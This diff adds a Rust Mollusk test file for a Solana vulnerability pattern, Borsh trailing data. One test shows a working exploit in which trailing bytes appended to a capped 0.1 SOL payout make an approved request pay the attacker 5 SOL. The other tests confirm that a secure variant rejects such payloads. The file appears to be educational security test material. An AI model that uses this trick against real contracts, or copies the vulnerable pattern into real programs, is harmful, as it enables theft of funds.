@@ -0,0 +1,344 @@
+// Mollusk tests for Pattern 49
+/// # Pattern 49: Borsh Trailing Data — Mollusk Exploit Tests
+///
+/// The treasury holds 10 SOL above its rent-exempt minimum, and no payouts
+/// have been queued. A payout is capped at 0.1 SOL. Its payload is a
+/// recipient and an amount; `execute` also reads a bonus, as a u64, from
+/// any bytes after them.
+///
+/// - Test 1: EXPLOIT — queue_payout_vulnerable accepts a 0.1 SOL payout
+///   with 4.9 SOL appended; once approved, it pays Mallory 5 SOL.
+/// - Test 2: SECURE — queue_payout_secure rejects the same payload, and
+///   one with a single trailing byte.
+/// - Test 3: SECURE — an exact 0.1 SOL payload is queued, approved, and
+///   paid once.
+/// - Test 4: SANITY — both variants enforce the cap, and an unapproved
+///   payout can't execute.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::{AccountSharedData, ReadableAccount},
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{account_discriminator, executable_account, ix_discriminator, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("CpZNnW2buZhDw6d44t5tGqznaHnzrFL3cj31NYM3YLgZ");
+
+const WALLET: u64 = 1_000_000_000;
+const FUNDS: u64 = 10_000_000_000;
+const MAX_PAYOUT: u64 = 100_000_000;
+const BONUS: u64 = 4_900_000_000;
+
+/// 8 disc + 32 admin + 8 requests + 1 bump.
+const TREASURY_LEN: usize = 49;
+/// 8 disc + 32 proposer + 1 approved + 1 executed + 4 + 64 payload + 1 bump.
+const REQUEST_LEN: usize = 111;
+
+// Error codes
+const MALFORMED_PAYLOAD: u32 = 6000;
+const PAYOUT_TOO_LARGE: u32 = 6001;
+const NOT_APPROVED: u32 = 6003;
+const ALREADY_EXECUTED: u32 = 6004;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Treasury account:
+///   [8 disc][32 admin][8 requests][1 bump]
+fn serialize_treasury(admin: &Pubkey, requests: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(TREASURY_LEN);
+    data.extend_from_slice(&account_discriminator("Treasury"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&requests.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Request account, zero-padded to its allocated length:
+///   [8 disc][32 proposer][1 approved][1 executed][4 len][len payload][1 bump]
+fn serialize_request(
+    proposer: &Pubkey,
+    approved: bool,
+    executed: bool,
+    payload: &[u8],
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(REQUEST_LEN);
+    data.extend_from_slice(&account_discriminator("Request"));
+    data.extend_from_slice(proposer.as_ref());
+    data.push(approved as u8);
+    data.push(executed as u8);
+    data.extend_from_slice(&(payload.len() as u32).to_le_bytes());
+    data.extend_from_slice(payload);
+    data.push(bump);
+    data.resize(REQUEST_LEN, 0);
+    data
+}
+
+/// A format 1 payload: [32 recipient][8 amount].
+fn payout(recipient: &Pubkey, amount: u64) -> Vec<u8> {
+    let mut data = recipient.as_ref().to_vec();
+    data.extend_from_slice(&amount.to_le_bytes());
+    data
+}
+
+fn program_account(len: usize, data: &[u8], extra: u64) -> AccountSharedData {
+    let lamports = Rent::default().minimum_balance(len) + extra;
+    let mut account = AccountSharedData::new(lamports, len, &PROGRAM_ID);
+    account.set_data_from_slice(data);
+    account
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    treasury: Pubkey,
+    admin: Pubkey,
+    mallory: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    /// A funded treasury with no requests, and room in the ledger for the
+    /// first.
+    fn new() -> Self {
+        let mollusk = Mollusk::new(&PROGRAM_ID, "borsh_trailing_data");
+        let admin = Pubkey::new_unique();
+        let mallory = Pubkey::new_unique();
+        let (treasury, treasury_bump) = Pubkey::find_program_address(&[b"treasury"], &PROGRAM_ID);
+
+        let ledger = vec![
+            (
+                treasury,
+                program_account(
+                    TREASURY_LEN,
+                    &serialize_treasury(&admin, 0, treasury_bump),
+                    FUNDS,
+                ),
+            ),
+            (Self::request(0).0, AccountSharedData::default()),
+            (admin, system_account()),
+            (mallory, system_account()),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            mollusk,
+            treasury,
+            admin,
+            mallory,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    fn request(index: u64) -> (Pubkey, u8) {
+        Pubkey::find_program_address(&[b"request", &index.to_le_bytes()], &PROGRAM_ID)
+    }
+
+    fn request_rent() -> u64 {
+        Rent::default().minimum_balance(REQUEST_LEN)
+    }
+
+    fn treasury_rent() -> u64 {
+        Rent::default().minimum_balance(TREASURY_LEN)
+    }
+
+    /// queue_payout_vulnerable or queue_payout_secure of `payload`, by
+    /// `proposer`, as request `index`.
+    fn queue(&self, name: &str, index: u64, proposer: &Pubkey, payload: &[u8]) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&(payload.len() as u32).to_le_bytes());
+        data.extend_from_slice(payload);
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.treasury, false),
+                AccountMeta::new(Self::request(index).0, false),
+                AccountMeta::new(*proposer, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// approve of request `index`, by the admin.
+    fn approve(&self, index: u64) -> Instruction {
+        let mut data = ix_discriminator("approve").to_vec();
+        data.extend_from_slice(&index.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.treasury, false),
+                AccountMeta::new(Self::request(index).0, false),
+                AccountMeta::new_readonly(self.admin, true),
+            ],
+        )
+    }
+
+    /// execute of request `index`, paying `recipient`.
+    fn execute(&self, index: u64, recipient: &Pubkey) -> Instruction {
+        let mut data = ix_discriminator("execute").to_vec();
+        data.extend_from_slice(&index.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.treasury, false),
+                AccountMeta::new(Self::request(index).0, false),
+                AccountMeta::new(*recipient, false),
+            ],
+        )
+    }
+
+    /// Assert the treasury has paid out `paid` lamports, all to Mallory,
+    /// and Mallory has paid rent on `requests` requests.
+    fn assert_paid(&self, paid: u64, requests: u64) {
+        assert_eq!(
+            self.ledger.lamports(&self.treasury),
+            Self::treasury_rent() + FUNDS - paid
+        );
+        assert_eq!(
+            self.ledger.lamports(&self.mallory),
+            WALLET - requests * Self::request_rent() + paid
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_trailing_bonus_paid_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: Mallory's payload is a 0.1 SOL payout to Mallory, followed
+    //          by 4.9 SOL as a u64: 48 bytes
+    //   Mallory: queue_payout_vulnerable(payload)
+    //   Admin:   approve(0), having read a 0.1 SOL payout
+    //   Anyone:  execute(0)
+    //
+    // Expected: all SUCCEED. The queue checks 0.1 SOL against the cap and
+    //           stores all 48 bytes; execute reads the last 8 as a bonus
+    //           and pays Mallory 5 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+    let mut payload = payout(&mallory, MAX_PAYOUT);
+    payload.extend_from_slice(&BONUS.to_le_bytes());
+
+    let ix = s.queue("queue_payout_vulnerable", 0, &mallory, &payload);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let (request, bump) = Setup::request(0);
+    assert_eq!(
+        s.ledger.data(&request),
+        serialize_request(&mallory, false, false, &payload, bump)
+    );
+
+    let ix = s.approve(0);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let ix = s.execute(0, &mallory);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    s.assert_paid(MAX_PAYOUT + BONUS, 1);
+}
+
+#[test]
+fn secure_rejects_trailing_bytes() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same 48-byte payload, and a 0.1 SOL payout followed by a
+    //         single zero byte
+    //   Mallory: queue_payout_secure(payload), for each
+    //
+    // Expected: both FAIL with MalformedPayload (6000). No request is
+    //           created and nothing is paid.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+    let mut payload = payout(&mallory, MAX_PAYOUT);
+    payload.extend_from_slice(&BONUS.to_le_bytes());
+    let ix = s.queue("queue_payout_secure", 0, &mallory, &payload);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(MALFORMED_PAYLOAD))]);
+
+    let mut payload = payout(&mallory, MAX_PAYOUT);
+    payload.push(0);
+    let ix = s.queue("queue_payout_secure", 0, &mallory, &payload);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(MALFORMED_PAYLOAD))]);
+
+    assert_eq!(s.ledger.account(&Setup::request(0).0).lamports(), 0);
+    s.assert_paid(0, 0);
+}
+
+#[test]
+fn secure_exact_payload_executes_once() {
+    // -----------------------------------------------------------------------
+    // SECURE: Mallory's payload is exactly a 0.1 SOL payout: 40 bytes
+    //   Mallory: queue_payout_secure(payload)
+    //   Admin:   approve(0)
+    //   Anyone:  execute(0), twice
+    //
+    // Expected: the first execute SUCCEEDS and pays Mallory 0.1 SOL; the
+    //           second FAILS with AlreadyExecuted (6004).
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+    let payload = payout(&mallory, MAX_PAYOUT);
+
+    let ix = s.queue("queue_payout_secure", 0, &mallory, &payload);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let ix = s.approve(0);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let ix = s.execute(0, &mallory);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(ALREADY_EXECUTED))]);
+
+    let (request, bump) = Setup::request(0);
+    assert_eq!(
+        s.ledger.data(&request),
+        serialize_request(&mallory, true, true, &payload, bump)
+    );
+    s.assert_paid(MAX_PAYOUT, 1);
+}
+
+#[test]
+fn sanity_cap_and_approval() {
+    // -----------------------------------------------------------------------
+    // SANITY: A 0.2 SOL payout, then a 0.1 SOL one that isn't approved
+    //   Mallory: queue_payout_vulnerable and queue_payout_secure(0.2 SOL)
+    //   Mallory: queue_payout_vulnerable(0.1 SOL), then execute(0)
+    //
+    // Expected: both 0.2 SOL queues FAIL with PayoutTooLarge (6001). The
+    //           0.1 SOL queue SUCCEEDS, and execute FAILS with NotApproved
+    //           (6003).
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+    let payload = payout(&mallory, 2 * MAX_PAYOUT);
+    for name in ["queue_payout_vulnerable", "queue_payout_secure"] {
+        let ix = s.queue(name, 0, &mallory, &payload);
+        s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(PAYOUT_TOO_LARGE))]);
+    }
+
+    let payload = payout(&mallory, MAX_PAYOUT);
+    let ix = s.queue("queue_payout_vulnerable", 0, &mallory, &payload);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let ix = s.execute(0, &mallory);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(NOT_APPROVED))]);
+
+    let treasury = s.treasury;
+    let (_, treasury_bump) = Pubkey::find_program_address(&[b"treasury"], &PROGRAM_ID);
+    assert_eq!(
+        s.ledger.data(&treasury),
+        serialize_treasury(&s.admin, 1, treasury_bump)
+    );
+    s.assert_paid(0, 1);
+}